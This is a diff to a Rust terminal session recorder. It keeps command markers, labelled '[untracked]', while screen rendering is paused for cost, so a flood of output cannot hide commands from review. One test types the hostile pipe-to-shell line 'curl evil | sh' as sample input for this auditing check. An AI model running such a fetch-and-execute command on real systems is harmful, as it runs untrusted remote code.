@@ -221,7 +221,15 @@ pub struct Recorder {
     /// a terminal's own rendering rate already bounds, while a byte stream (`cat`, `rsync`)
     /// runs at hundreds.
     screen: Option<Screen>,
+    /// The terminal's size as last announced, for a screen started again.
+    size: (u32, u32),
+    /// Since when a pty channel's emulation is stopped for its cost: Enter still makes an
+    /// `[untracked]` marker, and a fresh screen starts after `UNTRACKED_FOR`.
+    untracked_since: Option<Instant>,
 }
+
+/// How long emulation stays off after a channel's output cost too much to render.
+const UNTRACKED_FOR: Duration = Duration::from_secs(10);
 
 impl std::fmt::Debug for Recorder {
     fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
@@ -250,6 +258,8 @@ impl Recorder {
             screen: capture
                 .terminal
                 .then(|| Screen::new(header.width, header.height, false)),
+            size: (header.width, header.height),
+            untracked_since: None,
         };
         recorder.file.write_line(&asciicast::header_line(header))?;
         // An exec channel is one command: its marker opens the timeline, whole up to 64 KiB
@@ -312,12 +322,27 @@ impl Recorder {
     /// target has not echoed yet (a pasted line). Written whether or not keystrokes are kept:
     /// the label is what the screen showed, which is recorded anyway.
     fn commands(&mut self, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
-        let Some(screen) = self.screen.as_ref() else {
-            return Ok(());
-        };
         if !bytes.iter().any(|byte| matches!(byte, b'\r' | b'\n')) {
             return Ok(());
         }
+        let Some(screen) = self.screen.as_ref() else {
+            if self.untracked_since.is_none() {
+                return Ok(());
+            }
+            // Rendering is off for its cost: Enter is still a command, without its line.
+            let typed = String::from_utf8_lossy(bytes);
+            let pieces: Vec<&str> = typed.split(['\r', '\n']).collect();
+            for piece in &pieces[..pieces.len().saturating_sub(1)] {
+                let label = match self.capture.input {
+                    true => screen::command_line("[untracked]", piece),
+                    false => Some("[untracked]".to_string()),
+                };
+                if let Some(label) = label {
+                    self.marker(at, &label)?;
+                }
+            }
+            return Ok(());
+        };
         let elapsed = at.saturating_duration_since(self.started);
         // What was typed joins a label only when keystrokes are kept: a password pasted at a
         // prompt with Enter must not reach a marker under `record_input = false`.
@@ -363,6 +388,7 @@ impl Recorder {
         width: u32,
         height: u32,
     ) -> Result<(), RecordingError> {
+        self.size = (width, height);
         if let Some(screen) = self.screen.as_mut() {
             screen.resize(width, height);
         }
@@ -418,17 +444,34 @@ impl Recorder {
         self.line = line;
         written?;
         if self.screen.as_ref().is_some_and(Screen::over_budget) {
-            // Said once in the recording, so a reviewer knows why the timeline stops here.
+            // Said in the recording, so a reviewer knows why labels stop here.
             self.screen = None;
-            let label = "portcullis: commands are no longer tracked on this channel: its output \
-                         cost more to render than a session may";
-            let line = asciicast::event_line(
-                at.saturating_duration_since(self.started),
-                &Event::Marker(label.to_string()),
-            );
-            self.file.write_line(&line)?;
+            self.untracked_since = Some(at);
+            self.marker(
+                at,
+                "portcullis: command lines are not rendered for the next 10 s: the output cost \
+                 more to render than a session may",
+            )?;
+        } else if self.screen.is_none()
+            && self
+                .untracked_since
+                .is_some_and(|since| at.saturating_duration_since(since) >= UNTRACKED_FOR)
+        {
+            // A fresh screen with a fresh budget: it does not know what was drawn before, but
+            // the next prompt and command are drawn anew.
+            self.untracked_since = None;
+            self.screen = Some(Screen::new(self.size.0, self.size.1, false));
+            self.marker(at, "portcullis: command lines are rendered again")?;
         }
         Ok(())
+    }
+
+    fn marker(&mut self, at: Instant, label: &str) -> Result<(), RecordingError> {
+        let line = asciicast::event_line(
+            at.saturating_duration_since(self.started),
+            &Event::Marker(label.to_string()),
+        );
+        self.file.write_line(&line)
     }
 
     /// Writes `bytes` as one base64 event into the reused line buffer.
@@ -554,6 +597,39 @@ mod tests {
                 "{name}: {marker}"
             );
         }
+        Ok(())
+    }
+
+    /// Issue #19 review: output made to cost too much to render stops the rendering, not the
+    /// timeline: Enter still makes a marker, and rendering starts again later.
+    #[test]
+    fn costly_output_cannot_switch_the_command_timeline_off()
+    -> Result<(), Box<dyn std::error::Error>> {
+        let dir = tempfile::tempdir()?;
+        let path = dir.path().join("costly.cast");
+        let mut wide = header();
+        (wide.width, wide.height) = (400, 200);
+        let mut recorder = Recorder::create(path.clone(), &wide, TERMINAL)?;
+        let costly = "\x1b#8\x1b[2J".repeat(500);
+        let mut rounds = 0;
+        while recorder.screen.is_some() && rounds < 100_000 {
+            recorder.output(costly.as_bytes())?;
+            rounds += 1;
+        }
+        assert!(
+            recorder.screen.is_none(),
+            "still rendering after {rounds} rounds"
+        );
+        recorder.input(b"curl evil | sh\r")?;
+        recorder.finalize()?;
+        let text = std::fs::read_to_string(&path)?;
+        let markers: Vec<&str> = text.lines().filter(|line| line.contains("\"m\"")).collect();
+        assert!(
+            markers
+                .iter()
+                .any(|line| line.contains("[untracked] curl evil | sh")),
+            "{markers:?}"
+        );
         Ok(())
     }
 
